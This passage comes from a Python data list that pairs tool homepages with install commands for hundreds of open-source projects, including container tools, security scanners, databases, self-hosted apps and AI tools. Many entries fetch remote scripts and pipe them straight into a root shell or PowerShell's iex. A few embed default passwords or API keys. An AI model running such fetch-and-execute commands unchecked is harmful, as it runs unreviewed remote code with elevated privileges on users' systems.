        "brew tap FairwindsOps/tap\nbrew install FairwindsOps/tap/polaris",
    ),
    (
        "https://kanister.io/",
        "curl https://raw.githubusercontent.com/kanisterio/kanister/master/scripts/get.sh | bash",
    ),
    (
        "https://openebs.io/docs/quickstart-guide/installation",
        "helm repo add openebs https://openebs.github.io/openebs\nhelm repo update\nhelm install openebs --namespace openebs openebs/openebs --create-namespace",
    ),
    (
        "https://zotregistry.dev/v2.1.2/install-guides/install-guide-linux/",
        "curl -L https://github.com/project-zot/zot/releases/latest/download/zot-linux-amd64 -o /usr/bin/zot && chmod +x /usr/bin/zot",
    ),
    ("https://github.com/notaryproject/notation", "brew install notation"),
    (
        "https://github.com/regclient/regclient",
        "curl -L https://github.com/regclient/regclient/releases/latest/download/regctl-linux-amd64 >regctl\nchmod 755 regctl",
    ),
    (
        "https://github.com/google/go-containerregistry/tree/main/cmd/crane",
        "go install github.com/google/go-containerregistry/cmd/crane@latest",
    ),
    (
        "https://github.com/containers/skopeo/blob/main/install.md",
        "sudo apt-get -y update\nsudo apt-get -y install skopeo",
    ),
    (
        "https://github.com/slimtoolkit/slim",
        "curl -sL https://raw.githubusercontent.com/slimtoolkit/slim/master/scripts/install-slim.sh | sudo -E bash -",
    ),
    ("https://github.com/extrawurst/gitui", "cargo install gitui --locked"),
    ("https://github.com/Wilfred/difftastic", "cargo install --locked difftastic"),
    ("https://github.com/lsd-rs/lsd", "sudo apt install lsd"),
    ("https://github.com/dalance/procs", "cargo install procs"),
    ("https://github.com/aristocratos/btop", "sudo snap install btop"),
    ("https://github.com/aristocratos/bpytop", "pip3 install bpytop --upgrade"),
    ("https://www.byobu.org/downloads", "sudo apt-get install byobu"),
    (
        "https://elv.sh/get/",
        "curl -so - https://dl.elv.sh/linux-amd64/elvish-v0.21.0.tar.gz | sudo tar -xzvC /usr/local/bin",
    ),
    ("https://xon.sh/", "pip install 'xonsh[full]'"),
    (
        "https://oils.pub/release/latest/",
        "curl -L -O https://oils.pub/download/oils-for-unix-0.26.0.tar.gz\ntar -x -z < oils-for-unix-0.26.0.tar.gz\ncd oils-for-unix-0.26.0\n./configure && _build/oils.sh && sudo ./install",
    ),
    ("https://murex.rocks/install.html", "go install -v github.com/lmorg/murex@latest"),
    ("https://github.com/powerline/powerline", "pip install --user powerline-status"),
    ("https://github.com/zsh-users/antigen", "curl -L git.io/antigen > antigen.zsh"),
    (
        "https://github.com/zplug/zplug",
        "curl -sL --proto-redir -all,https https://raw.githubusercontent.com/zplug/installer/master/installer.zsh | zsh",
    ),
    ("https://github.com/skim-rs/skim", "cargo install skim"),
    ("https://github.com/dbrgn/tealdeer", "cargo install tealdeer"),
    (
        "https://github.com/cheat/cheat/blob/master/INSTALLING.md",
        "cd /tmp \\\n  && wget https://github.com/cheat/cheat/releases/download/4.4.2/cheat-linux-amd64.gz \\\n  && gunzip cheat-linux-amd64.gz \\\n  && chmod +x cheat-linux-amd64 \\\n  && sudo mv cheat-linux-amd64 /usr/local/bin/cheat",
    ),
    ("https://github.com/gleitz/howdoi", "pip install howdoi"),
    ("https://github.com/nvbn/thefuck", "pip3 install thefuck --user"),
    (
        "https://github.com/iffse/pay-respects",
        "curl -sSfL https://raw.githubusercontent.com/iffse/pay-respects/main/install.sh | sh",
    ),
    (
        "https://github.com/dvorka/hstr",
        "sudo add-apt-repository ppa:ultradvorka/ppa && sudo apt-get update && sudo apt-get install hstr && hstr --show-configuration >> ~/.bashrc && . ~/.bashrc",
    ),
    (
        "https://github.com/nodenv/nodenv",
        "git clone https://github.com/nodenv/nodenv.git ~/.nodenv",
    ),
    (
        "https://github.com/jasongin/nvs",
        'export NVS_HOME="$HOME/.nvs"\ngit clone https://github.com/jasongin/nvs "$NVS_HOME"\n. "$NVS_HOME/nvs.sh" install',
    ),
    (
        "https://github.com/MordechaiHadad/bob",
        "cargo install --git https://github.com/MordechaiHadad/bob.git",
    ),
    (
        "https://kakoune.org/",
        "git clone https://github.com/mawww/kakoune.git && cd kakoune && make && PREFIX=$HOME/.local make install",
    ),
    (
        "https://github.com/lapce/lapce/blob/master/docs/installing-with-package-manager.md",
        "winget install lapce",
    ),
    ("https://pulsar-edit.dev/download.html", "flatpak install flathub dev.pulsar_edit.Pulsar"),
    ("https://vscodium.com/", "winget install -e --id VSCodium.VSCodium"),
    (
        "https://github.com/gitpod-io/openvscode-server",
        'docker run -it --init -p 3000:3000 -v "${HOME}:/home/workspace:cached" gitpod/openvscode-server',
    ),
    (
        "https://www.daytona.io/docs/installation/installation/",
        "brew install daytonaio/cli/daytona",
    ),
    ("https://github.com/devcontainers/cli", "npm install -g @devcontainers/cli"),
    # security tooling
    (
        "https://github.com/projectdiscovery/subfinder",
        "go install -v github.com/projectdiscovery/subfinder/v2/cmd/subfinder@latest",
    ),
    (
        "https://github.com/projectdiscovery/httpx",
        "go install -v github.com/projectdiscovery/httpx/cmd/httpx@latest",
    ),
    (
        "https://github.com/projectdiscovery/katana",
        "CGO_ENABLED=1 go install github.com/projectdiscovery/katana/cmd/katana@latest",
    ),
    (
        "https://github.com/projectdiscovery/naabu",
        "sudo apt install -y libpcap-dev\ngo install -v github.com/projectdiscovery/naabu/v2/cmd/naabu@latest",
    ),
    (
        "https://github.com/projectdiscovery/pdtm",
        "go install -v github.com/projectdiscovery/pdtm/cmd/pdtm@latest",
    ),
    (
        "https://suricata.io/download/",
        "sudo add-apt-repository ppa:oisf/suricata-stable\nsudo apt-get update\nsudo apt-get install suricata",
    ),
    (
        "https://github.com/aquasecurity/tracee",
        "docker run --name tracee -it --rm --pid=host --cgroupns=host --privileged -v /etc/os-release:/etc/os-release-host:ro -v /var/run:/var/run:ro aquasec/tracee:latest",
    ),
    (
        "https://smallstep.com/docs/step-cli/installation/",
        "wget https://dl.smallstep.com/cli/docs-cli-install/latest/step-cli_amd64.deb\nsudo dpkg -i step-cli_amd64.deb",
    ),
    (
        "https://go-acme.github.io/lego/installation/",
        "go install github.com/go-acme/lego/v4/cmd/lego@latest",
    ),
    (
        "https://github.com/epi052/feroxbuster",
        "curl -sL https://raw.githubusercontent.com/epi052/feroxbuster/main/install-nix.sh | bash",
    ),
    (
        "https://github.com/RustScan/RustScan",
        "docker run -it --rm --name rustscan rustscan/rustscan:latest -a 127.0.0.1",
    ),
    (
        "https://github.com/sqlmapproject/sqlmap",
        "git clone --depth 1 https://github.com/sqlmapproject/sqlmap.git sqlmap-dev",
    ),
    (
        "https://github.com/owasp-amass/amass",
        "go install -v github.com/owasp-amass/amass/v4/...@master",
    ),
    ("https://github.com/tomnomnom/httprobe", "go install github.com/tomnomnom/httprobe@latest"),
    ("https://github.com/hahwul/dalfox", "go install github.com/hahwul/dalfox/v2@latest"),
    (
        "https://github.com/zaproxy/zaproxy",
        "docker run -u zap -p 8080:8080 -i ghcr.io/zaproxy/zaproxy:stable zap.sh -daemon -host 0.0.0.0 -port 8080",
    ),
    ("https://github.com/mitmproxy/mitmproxy", "pipx install mitmproxy"),
    ("https://www.openvas.org/", "sudo apt install gvm && sudo gvm-setup"),
    # databases, data and queues
    (
        "https://docs.timescale.com/self-hosted/latest/install/installation-linux/",
        'echo "deb https://packagecloud.io/timescale/timescaledb/ubuntu/ $(lsb_release -c -s) main" | sudo tee /etc/apt/sources.list.d/timescaledb.list\nwget --quiet -O - https://packagecloud.io/timescale/timescaledb/gpgkey | sudo gpg --dearmor -o /etc/apt/trusted.gpg.d/timescaledb.gpg',
    ),
    ("https://github.com/pocketbase/pocketbase", "go get github.com/pocketbase/pocketbase"),
    (
        "https://docs.directus.io/self-hosted/quickstart.html",
        "docker run -p 8055:8055 directus/directus",
    ),
    (
        "https://github.com/amacneil/dbmate",
        "sudo curl -fsSL -o /usr/local/bin/dbmate https://github.com/amacneil/dbmate/releases/latest/download/dbmate-linux-amd64\nsudo chmod +x /usr/local/bin/dbmate",
    ),
    (
        "https://github.com/fullstorydev/grpcurl",
        "go install github.com/fullstorydev/grpcurl/cmd/grpcurl@latest",
    ),
    (
        "https://github.com/FerretDB/FerretDB",
        "docker run -d --rm --name ferretdb -p 27017:27017 ghcr.io/ferretdb/ferretdb-eval:2",
    ),
    ("https://github.com/nats-io/natscli", "go install github.com/nats-io/natscli/nats@latest"),
    ("https://github.com/valkey-io/valkey", "docker run --name my-valkey -d valkey/valkey"),
    (
        "https://www.dragonflydb.io/docs/getting-started/docker",
        "docker run --network=host --ulimit memlock=-1 docker.dragonflydb.io/dragonflydb/dragonfly",
    ),
    (
        "https://github.com/tursodatabase/limbo",
        "curl --proto '=https' --tlsv1.2 -LsSf https://github.com/tursodatabase/limbo/releases/latest/download/limbo-installer.sh | sh",
    ),
    (
        "https://github.com/typesense/typesense",
        "docker run -p 8108:8108 -v/tmp/data:/data typesense/typesense:27.1 --data-dir /data --api-key=Hu52dwsas2AdxdE",
    ),
    ("https://github.com/quickwit-oss/quickwit", "curl -L https://install.quickwit.io | sh"),
    ("https://github.com/risingwavelabs/risingwave", "curl -L https://risingwave.com/sh | sh"),
    (
        "https://github.com/grafana/k6",
        'sudo gpg -k\nsudo gpg --no-default-keyring --keyring /usr/share/keyrings/k6-archive-keyring.gpg --keyserver hkp://keyserver.ubuntu.com:80 --recv-keys C5AD17C747E3415A3642D57D77C6C491D6AC1D69\necho "deb [signed-by=/usr/share/keyrings/k6-archive-keyring.gpg] https://dl.k6.io/deb stable main" | sudo tee /etc/apt/sources.list.d/k6.list\nsudo apt-get update\nsudo apt-get install k6',
    ),
    ("https://github.com/tsenart/vegeta", "brew update && brew install vegeta"),
    ("https://github.com/rakyll/hey", "go install github.com/rakyll/hey@latest"),
    ("https://github.com/hatoo/oha", "cargo install oha"),
    ("https://github.com/locustio/locust", "pip3 install locust"),
    # self-hosting and home lab
    (
        "https://github.com/dani-garcia/vaultwarden",
        'docker pull vaultwarden/server:latest\ndocker run --detach --name vaultwarden --env DOMAIN="https://vw.domain.tld" --volume /vw-data/:/data/ --restart unless-stopped --publish 80:80 vaultwarden/server:latest',
    ),
    (
        "https://docs.goauthentik.io/docs/install-config/install/docker-compose",
        "wget https://goauthentik.io/docker-compose.yml\necho \"PG_PASS=$(openssl rand -base64 36 | tr -d '\\n')\" >> .env",
    ),
    (
        "https://www.keycloak.org/getting-started/getting-started-docker",
        "docker run -p 8080:8080 -e KC_BOOTSTRAP_ADMIN_USERNAME=admin -e KC_BOOTSTRAP_ADMIN_PASSWORD=admin quay.io/keycloak/keycloak:26.0.7 start-dev",
    ),
    (
        "https://zitadel.com/docs/self-hosting/deploy/compose",
        "curl -LO https://raw.githubusercontent.com/zitadel/zitadel/main/docs/docs/self-hosting/deploy/docker-compose.yaml\ndocker compose up --detach",
    ),
    (
        "https://github.com/mattermost/docker",
        "git clone https://github.com/mattermost/docker\ncd docker\ncp env.example .env",
    ),
    (
        "https://jitsi.github.io/handbook/docs/devops-guide/devops-guide-quickstart/",
        "curl -sL https://download.jitsi.org/jitsi-key.gpg.key | sudo sh -c 'gpg --dearmor > /usr/share/keyrings/jitsi-keyring.gpg'\necho \"deb [signed-by=/usr/share/keyrings/jitsi-keyring.gpg] https://download.jitsi.org stable/\" | sudo tee /etc/apt/sources.list.d/jitsi-stable.list",
    ),
    (
        "https://github.com/wallabag/docker",
        'docker run -p 80:80 -e "SYMFONY__ENV__DOMAIN_NAME=http://localhost" wallabag/wallabag',
    ),
    (
        "https://github.com/paperless-ngx/paperless-ngx",
        'bash -c "$(curl -L https://raw.githubusercontent.com/paperless-ngx/paperless-ngx/main/install-paperless-ngx.sh)"',
    ),
    (
        "https://github.com/linuxserver/docker-heimdall",
        "docker run -d --name=heimdall -e PUID=1000 -e PGID=1000 -e TZ=Etc/UTC -p 80:80 -p 443:443 -v /path/to/heimdall/config:/config --restart unless-stopped lscr.io/linuxserver/heimdall:latest",
    ),
    (
        "https://gethomepage.dev/installation/docker/",
        "docker run -p 3000:3000 -v /path/to/config:/app/config -v /var/run/docker.sock:/var/run/docker.sock ghcr.io/gethomepage/homepage:latest",
    ),
    (
        "https://github.com/AnalogJ/scrutiny",
        "docker run -it --rm -p 8080:8080 -p 8086:8086 -v `pwd`/scrutiny:/opt/scrutiny/config -v /run/udev:/run/udev:ro --cap-add SYS_RAWIO --device=/dev/sda --name scrutiny ghcr.io/analogj/scrutiny:master-omnibus",
    ),
    ("https://github.com/Lissy93/dashy", "docker run -p 8080:8080 lissy93/dashy"),
    (
        "https://github.com/filebrowser/filebrowser",
        "curl -fsSL https://raw.githubusercontent.com/filebrowser/get/master/get.sh | bash",
    ),
    (
        "https://borgbackup.readthedocs.io/en/stable/installation.html",
        "sudo apt install borgbackup",
    ),
    (
        "https://github.com/nextcloud/all-in-one",
        "sudo docker run --init --sig-proxy=false --name nextcloud-aio-mastercontainer --restart always --publish 80:80 --publish 8080:8080 --publish 8443:8443 --volume nextcloud_aio_mastercontainer:/mnt/docker-aio-config --volume /var/run/docker.sock:/var/run/docker.sock:ro nextcloud/all-in-one:latest",
    ),
    (
        "https://github.com/wg-easy/wg-easy",
        "docker run -d --name=wg-easy -e LANG=en -e WG_HOST=<your server ip> -e PASSWORD_HASH=<bcrypt hash> -v ~/.wg-easy:/etc/wireguard -p 51820:51820/udp -p 51821:51821/tcp --cap-add=NET_ADMIN --cap-add=SYS_MODULE --restart unless-stopped ghcr.io/wg-easy/wg-easy",
    ),
    (
        "https://github.com/0xERR0R/blocky",
        "docker run --name blocky -v /path/to/config.yml:/app/config.yml -p 4000:4000 -p 53:53/udp spx01/blocky",
    ),
    (
        "https://github.com/trailofbits/algo",
        "git clone https://github.com/trailofbits/algo.git\ncd algo\n./algo",
    ),
    (
        "https://www.firezone.dev/kb/client-apps/linux-headless-client",
        "sudo apt install firezone-headless-client",
    ),
    (
        "https://support.torproject.org/apt/tor-deb-repo/",
        "wget -qO- https://deb.torproject.org/torproject.org/A3C4F0F979CAA22CDBA8F512EE8CBC9E886DDD89.asc | gpg --dearmor | sudo tee /usr/share/keyrings/deb.torproject.org-keyring.gpg >/dev/null",
    ),
    (
        "https://geti2p.net/en/download/debian",
        "sudo apt-add-repository ppa:i2p-maintainers/i2p\nsudo apt-get update\nsudo apt-get install i2p",
    ),
    # language toolchains and package managers
    ("https://github.com/roswell/roswell", "brew install roswell"),
    ("https://download.racket-lang.org/", "sh racket-8.15-x86_64-linux-cs.sh"),
    (
        "https://leiningen.org/",
        "curl -O https://raw.githubusercontent.com/technomancy/leiningen/stable/bin/lein && chmod a+x lein && sudo mv lein /usr/local/bin/",
    ),
    (
        "https://mill-build.org/mill/cli/installation-ide.html",
        "curl -L https://repo1.maven.org/maven2/com/lihaoyi/mill-dist/0.12.5/mill -o mill && chmod +x mill",
    ),
    (
        "https://scala-cli.virtuslab.org/install",
        "curl -sSLf https://scala-cli.virtuslab.org/get | sh",
    ),
    ("https://gleam.run/getting-started/installing/", "brew install gleam"),
    (
        "https://odin-lang.org/docs/install/",
        "git clone https://github.com/odin-lang/Odin\ncd Odin && ./build_odin.sh release",
    ),
    ("https://github.com/vlang/v", "git clone --depth=1 https://github.com/vlang/v\ncd v\nmake"),
    (
        "https://github.com/tristanisham/zvm",
        "curl https://raw.githubusercontent.com/tristanisham/zvm/master/install.sh | bash",
    ),
    (
        "https://github.com/tristanisham/zvm",
        "irm https://raw.githubusercontent.com/tristanisham/zvm/master/install.ps1 | iex",
    ),
    ("https://docs.modular.com/magic/", "curl -ssL https://magic.modular.com/ | bash"),
    (
        "https://github.com/swiftlang/swiftly",
        "curl -O https://download.swift.org/swiftly/linux/swiftly-$(uname -m).tar.gz && tar zxf swiftly-$(uname -m).tar.gz && ./swiftly init --quiet-shell-followup",
    ),
    ("https://kotlinlang.org/docs/command-line.html", "sdk install kotlin"),
    (
        "https://dart.dev/get-dart",
        "sudo apt-get update && sudo apt-get install apt-transport-https\nwget -qO- https://dl-ssl.google.com/linux/linux_signing_key.pub | sudo gpg --dearmor -o /usr/share/keyrings/dart.gpg",
    ),
    ("https://github.com/fvm-app/fvm", "curl -fsSL https://fvm.app/install.sh | bash"),
    ("https://github.com/cargo-bins/cargo-quickinstall", "cargo install cargo-quickinstall"),
    ("https://github.com/cargo-generate/cargo-generate", "cargo install cargo-generate"),
    ("https://github.com/mozilla/sccache", "cargo install sccache --locked"),
    ("https://github.com/rui314/mold", "sudo apt install mold"),
    ("https://github.com/esp-rs/espup", "cargo install espup --locked\nespup install"),
    ("https://github.com/DioxusLabs/dioxus", "cargo binstall dioxus-cli"),
    ("https://github.com/leptos-rs/cargo-leptos", "cargo install --locked cargo-leptos"),
    (
        "https://bevyengine.org/learn/quick-start/getting-started/setup/",
        "sudo apt-get install g++ pkg-config libx11-dev libasound2-dev libudev-dev libxkbcommon-x11-0",
    ),
    ("https://docs.fyne.io/started/", "go install fyne.io/tools/cmd/fyne@latest"),
    ("https://github.com/gioui/gio", "go install gioui.org/cmd/gogio@latest"),
    ("https://github.com/lune-org/lune", "rokit add lune-org/lune"),
    ("https://github.com/JohnnyMorganz/StyLua", "cargo install stylua"),
    ("https://github.com/Kampfkarren/selene", "cargo install selene"),
    ("https://github.com/UpliftGames/wally", "aftman add UpliftGames/wally"),
    (
        "https://github.com/love2d/love",
        "sudo add-apt-repository ppa:bartbes/love-stable\nsudo apt-get update\nsudo apt-get install love",
    ),
    ("https://esphome.io/guides/installing_esphome", "pip3 install wheel\npip3 install esphome"),
    (
        "https://docs.espressif.com/projects/esptool/en/latest/esp32/installation.html",
        "pip install esptool",
    ),
    (
        "https://docs.zephyrproject.org/latest/develop/getting_started/index.html",
        "pip install west\nwest init ~/zephyrproject\ncd ~/zephyrproject\nwest update",
    ),
    ("https://github.com/raspberrypi/rpi-imager", "sudo apt install rpi-imager"),
    (
        "https://github.com/azlux/log2ram",
        'echo "deb [signed-by=/usr/share/keyrings/azlux-archive-keyring.gpg] http://packages.azlux.fr/debian/ bookworm main" | sudo tee /etc/apt/sources.list.d/azlux.list\nsudo wget -O /usr/share/keyrings/azlux-archive-keyring.gpg  https://azlux.fr/repo.gpg\nsudo apt update\nsudo apt install log2ram',
    ),
    (
        "https://dietpi.com/docs/hardware/",
        'sudo bash -c "$(curl -sSf https://raw.githubusercontent.com/MichaIng/DietPi/master/.build/images/dietpi-installer)"',
    ),
    # cloud and ops CLIs
    (
        "https://github.com/digitalocean/doctl",
        "cd ~\nwget https://github.com/digitalocean/doctl/releases/download/v1.119.0/doctl-1.119.0-linux-amd64.tar.gz\ntar xf ~/doctl-1.119.0-linux-amd64.tar.gz\nsudo mv ~/doctl /usr/local/bin",
    ),
    ("https://github.com/hetznercloud/cli", "brew install hcloud"),
    ("https://github.com/vultr/vultr-cli", "brew install vultr/vultr-cli/vultr-cli"),
    ("https://github.com/exoscale/cli", "brew tap exoscale/tap\nbrew install exoscale-cli"),
    ("https://github.com/linode/linode-cli", "pip3 install linode-cli --upgrade"),
    (
        "https://github.com/ovh/ovhcloud-cli",
        "curl -fsSL https://raw.githubusercontent.com/ovh/ovhcloud-cli/main/install.sh | sh",
    ),
    (
        "https://www.upcloud.com/docs/guides/get-started-upcloud-command-line-interface/",
        "go install github.com/UpCloudLtd/upcloud-cli/v3/...@latest",
    ),
    ("https://docs.netlify.com/cli/get-started/", "npm install netlify-cli -g"),
    (
        "https://docs.koyeb.com/build-and-deploy/cli/installation",
        "curl -fsSL https://raw.githubusercontent.com/koyeb/koyeb-cli/master/install.sh | sh",
    ),
    ("https://github.com/nitrictech/cli", "curl -L https://nitric.io/install | bash"),
    ("https://www.serverless.com/framework/docs/getting-started", "npm i serverless -g"),
    ("https://github.com/gruntwork-io/terragrunt", "brew install terragrunt"),
    (
        "https://github.com/tfutils/tfenv",
        "git clone --depth=1 https://github.com/tfutils/tfenv.git ~/.tfenv\necho 'export PATH=\"$HOME/.tfenv/bin:$PATH\"' >> ~/.bash_profile",
    ),
    (
        "https://github.com/terraform-docs/terraform-docs",
        "go install github.com/terraform-docs/terraform-docs@v0.19.0",
    ),
    (
        "https://docs.rudder.io/reference/8.2/installation/server/debian.html",
        'wget --quiet -O /etc/apt/trusted.gpg.d/rudder_apt_key.gpg "https://repository.rudder.io/apt/rudder_apt_key.gpg"',
    ),
    (
        "https://cfengine.com/downloads/",
        "wget -O- https://s3.amazonaws.com/cfengine.packages/quick-install-cfengine-community.sh | sudo bash",
    ),
    (
        "https://theforeman.org/manuals/3.13/quickstart_guide.html",
        "sudo apt-get -y install foreman-installer\nsudo foreman-installer",
    ),
    (
        "https://cockpit-project.org/running.html",
        ". /etc/os-release\nsudo apt install -t ${VERSION_CODENAME}-backports cockpit",
    ),
    ("https://linuxcontainers.org/incus/docs/main/installing/", "sudo apt install incus"),
    ("https://canonical.com/multipass/install", "sudo snap install multipass"),
    ("https://github.com/lima-vm/lima", "brew install lima\nlimactl start"),
    ("https://podman.io/docs/installation", "sudo apt-get -y install podman"),
    ("https://github.com/containers/podman-compose", "pip3 install podman-compose"),
    (
        "https://www.telepresence.io/docs/install/client",
        "sudo curl -fL https://app.getambassador.io/download/tel2oss/releases/download/v2.21.1/telepresence-linux-amd64 -o /usr/local/bin/telepresence\nsudo chmod a+x /usr/local/bin/telepresence",
    ),
    ("https://github.com/kubecolor/kubecolor", "brew install kubecolor/tap/kubecolor"),
    ("https://github.com/kubernetes-sigs/kwok", "brew install kwok"),
    ("https://github.com/loft-sh/vcluster", "brew install loft-sh/tap/vcluster"),
    (
        "https://github.com/keptn/lifecycle-toolkit",
        "helm repo add keptn https://charts.lifecycle.keptn.sh\nhelm repo update\nhelm upgrade --install keptn keptn/keptn -n keptn-system --create-namespace --wait",
    ),
    (
        "https://github.com/grafana/loki/blob/main/docs/sources/setup/install/docker.md",
        "wget https://raw.githubusercontent.com/grafana/loki/v3.0.0/production/docker-compose.yaml -O docker-compose.yaml\ndocker-compose -f docker-compose.yaml up",
    ),
    (
        "https://www.jaegertracing.io/docs/latest/getting-started/",
        "docker run --rm --name jaeger -p 16686:16686 -p 4317:4317 -p 4318:4318 jaegertracing/jaeger:2.1.0",
    ),
    ("https://github.com/uptrace/uptrace", "docker run -p 14318:14318 uptrace/uptrace"),
    (
        "https://github.com/VictoriaMetrics/VictoriaMetrics",
        "docker run -it --rm -v `pwd`/victoria-metrics-data:/victoria-metrics-data -p 8428:8428 victoriametrics/victoria-metrics:latest",
    ),
    (
        "https://github.com/prometheus-community/windows_exporter",
        'msiexec /i windows_exporter-0.29.2-amd64.msi ENABLED_COLLECTORS="ad,iis,logon,memory,process,tcp,textfile"',
    ),
    (
        "https://github.com/zabbix/zabbix-docker",
        "docker compose -f ./docker-compose_v3_alpine_mysql_latest.yaml up -d",
    ),
    ("https://checkmk.com/download", "sudo apt install ./check-mk-raw-2.3.0p22_0.noble_amd64.deb"),
    (
        "https://github.com/healthchecks/healthchecks",
        "git clone https://github.com/healthchecks/healthchecks.git\ncd healthchecks\npip install -r requirements.txt",
    ),
    (
        "https://github.com/statping-ng/statping-ng",
        "curl -o- -L https://statping-ng.github.io/install.sh | bash",
    ),
    # AI and data tools
    ("https://github.com/simonw/datasette", "pipx install datasette"),
    ("https://github.com/ggml-org/llama.cpp", "brew install llama.cpp"),
    (
        "https://github.com/ggml-org/llama.cpp/blob/master/docs/install.md",
        "winget install llama.cpp",
    ),
    ("https://github.com/janhq/jan", "brew install --cask jan"),
    ("https://github.com/open-webui/open-webui", "pip install open-webui\nopen-webui serve"),
    ("https://github.com/comfyanonymous/ComfyUI", "pip install comfy-cli\ncomfy install"),
    (
        "https://github.com/invoke-ai/InvokeAI",
        "docker run --runtime=nvidia --gpus=all --publish 9090:9090 ghcr.io/invoke-ai/invokeai",
    ),
    (
        "https://github.com/AUTOMATIC1111/stable-diffusion-webui",
        "wget -q https://raw.githubusercontent.com/AUTOMATIC1111/stable-diffusion-webui/master/webui.sh",
    ),
    (
        "https://github.com/lobehub/lobe-chat",
        "docker run -d -p 3210:3210 -e OPENAI_API_KEY=sk-xxxx -e ACCESS_CODE=lobe66 --name lobe-chat lobehub/lobe-chat",
    ),
    (
        "https://github.com/Mintplex-Labs/anything-llm",
        "curl -fsSL https://cdn.anythingllm.com/latest/installer.sh | sh",
    ),
    (
        "https://github.com/langgenius/dify",
        "cd dify\ncd docker\ncp .env.example .env\ndocker compose up -d",
    ),
    ("https://github.com/FlowiseAI/Flowise", "npm install -g flowise\nnpx flowise start"),
    ("https://github.com/continuedev/continue", "npm i -g @continuedev/cli"),
    ("https://github.com/charmbracelet/mods", "brew install charmbracelet/tap/mods"),
    ("https://github.com/sigoden/aichat", "cargo install aichat"),
    ("https://github.com/TheR1D/shell_gpt", "pip install shell-gpt"),
    ("https://github.com/All-Hands-AI/OpenHands", "pip install openhands-ai\nopenhands"),
    ("https://aider.chat/docs/install.html", "python -m pip install aider-install\naider-install"),
    ("https://github.com/mlflow/mlflow", "pip install mlflow\nmlflow ui"),
    ("https://github.com/iterative/dvc", "pip install dvc"),
    ("https://github.com/dagster-io/dagster", "pip install dagster dagster-webserver"),
    ("https://github.com/PrefectHQ/prefect", "pip install -U prefect"),
    (
        "https://github.com/apache/airflow",
        "pip install 'apache-airflow==2.10.4' --constraint \"https://raw.githubusercontent.com/apache/airflow/constraints-2.10.4/constraints-3.9.txt\"",
    ),
    (
        "https://github.com/kestra-io/kestra",
        "docker run --pull=always --rm -it -p 8080:8080 --user=root -v /var/run/docker.sock:/var/run/docker.sock -v /tmp:/tmp kestra/kestra:latest server local",
    ),
    (
        "https://github.com/metabase/metabase",
        "docker run -d -p 3000:3000 --name metabase metabase/metabase",
    ),
    (
        "https://github.com/apache/superset",
        "git clone https://github.com/apache/superset\ncd superset\ndocker compose -f docker-compose-image-tag.yml up",
    ),
    (
        "https://github.com/grafana/grafana",
        "docker run -d -p 3000:3000 --name=grafana grafana/grafana-enterprise",
    ),
    (
        "https://github.com/evidence-dev/evidence",
        "npx degit evidence-dev/template my-project\ncd my-project\nnpm install\nnpm run sources\nnpm run dev",
    ),
    ("https://github.com/streamlit/streamlit", "pip install streamlit\nstreamlit hello"),
    ("https://github.com/gradio-app/gradio", "pip install --upgrade gradio"),
    ("https://github.com/marimo-team/marimo", "pip install marimo && marimo tutorial intro"),
    ("https://github.com/jupyterlab/jupyterlab", "pip install jupyterlab"),
    ("https://github.com/voila-dashboards/voila", "mamba install -c conda-forge voila"),
    # Windows: winget, scoop, PowerShell Gallery and release installers
    (
        "https://github.com/microsoft/winget-cli",
        "Add-AppxPackage -RegisterByFamilyName -MainPackage Microsoft.DesktopAppInstaller_8wekyb3d8bbwe",
    ),
    ("https://github.com/files-community/Files", "winget install --id FilesCommunity.Files"),
    ("https://github.com/Flow-Launcher/Flow.Launcher", 'winget install "Flow Launcher"'),
    ("https://github.com/ShareX/ShareX", "winget install ShareX.ShareX"),
    (
        "https://github.com/dahlbyk/posh-git",
        "PowerShellGet\\Install-Module posh-git -Scope CurrentUser -Force",
    ),
    (
        "https://github.com/devblackops/Terminal-Icons",
        "Install-Module -Name Terminal-Icons -Repository PSGallery",
    ),
    ("https://github.com/pnp/powershell", "Install-Module PnP.PowerShell -Scope CurrentUser"),
    (
        "https://github.com/EvotecIT/PSWriteHTML",
        "Install-Module -Name PSWriteHTML -AllowClobber -Force",
    ),
    ("https://github.com/mgajda83/PSWindowsUpdate", "Install-Module -Name PSWindowsUpdate -Force"),
    (
        "https://github.com/PowerShell/PSScriptAnalyzer",
        "Install-PSResource -Name PSScriptAnalyzer -Reinstall",
    ),
    (
        "https://github.com/PowerShell/PSResourceGet",
        "Install-Module Microsoft.PowerShell.PSResourceGet -Repository PSGallery",
    ),
    (
        "https://github.com/PowerShell/SecretManagement",
        "Install-Module Microsoft.PowerShell.SecretManagement, Microsoft.PowerShell.SecretStore",
    ),
    ("https://github.com/ScoopInstaller/Extras", "scoop bucket add extras"),
    ("https://github.com/ScoopInstaller/Nonportable", "scoop bucket add nonportable"),
    ("https://github.com/ScoopInstaller/Java", "scoop bucket add java\nscoop install openjdk"),
    ("https://github.com/Ryujinx/Ryujinx", "winget install Ryujinx.Ryujinx"),
    ("https://github.com/qbittorrent/qBittorrent", "winget install qBittorrent.qBittorrent"),
    ("https://github.com/keepassxreboot/keepassxc", "winget install KeePassXCTeam.KeePassXC"),
    ("https://github.com/localsend/localsend", "winget install LocalSend.LocalSend"),
    # macOS casks and taps
    (
        "https://github.com/koekeishiya/skhd",
        "brew install koekeishiya/formulae/skhd\nskhd --start-service",
    ),
    ("https://github.com/rxhanson/Rectangle", "brew install --cask rectangle"),
    ("https://github.com/Hammerspoon/hammerspoon", "brew install --cask hammerspoon"),
    ("https://github.com/pqrs-org/Karabiner-Elements", "brew install --cask karabiner-elements"),
    ("https://github.com/mas-cli/mas", "brew install mas"),
    ("https://github.com/kcrawford/dockutil", "brew install dockutil"),
    ("https://github.com/p0deje/Maccy", "brew install maccy"),
    ("https://github.com/jordanbaird/Ice", "brew install jordanbaird-ice"),
    ("https://github.com/MonitorControl/MonitorControl", "brew install --cask monitorcontrol"),
    ("https://github.com/exelban/stats", "brew install stats"),
    ("https://github.com/lwouis/alt-tab-macos", "brew install --cask alt-tab"),
    ("https://github.com/ianyh/Amethyst", "brew install --cask amethyst"),
    ("https://github.com/mhaeuser/Battery-Toolkit", "brew install --cask battery-toolkit"),
    ("https://github.com/utmapp/UTM", "brew install --cask utm"),
    ("https://github.com/XcodesOrg/xcodes", "brew install xcodesorg/made/xcodes"),
    ("https://github.com/tuist/tuist", "curl -Ls https://install.tuist.io | bash"),
    ("https://github.com/yonaskolb/XcodeGen", "brew install xcodegen"),
    ("https://github.com/nicklockwood/SwiftFormat", "brew install swiftformat"),
    ("https://github.com/realm/SwiftLint", "brew install swiftlint"),
    ("https://github.com/fastlane/fastlane", "brew install fastlane"),
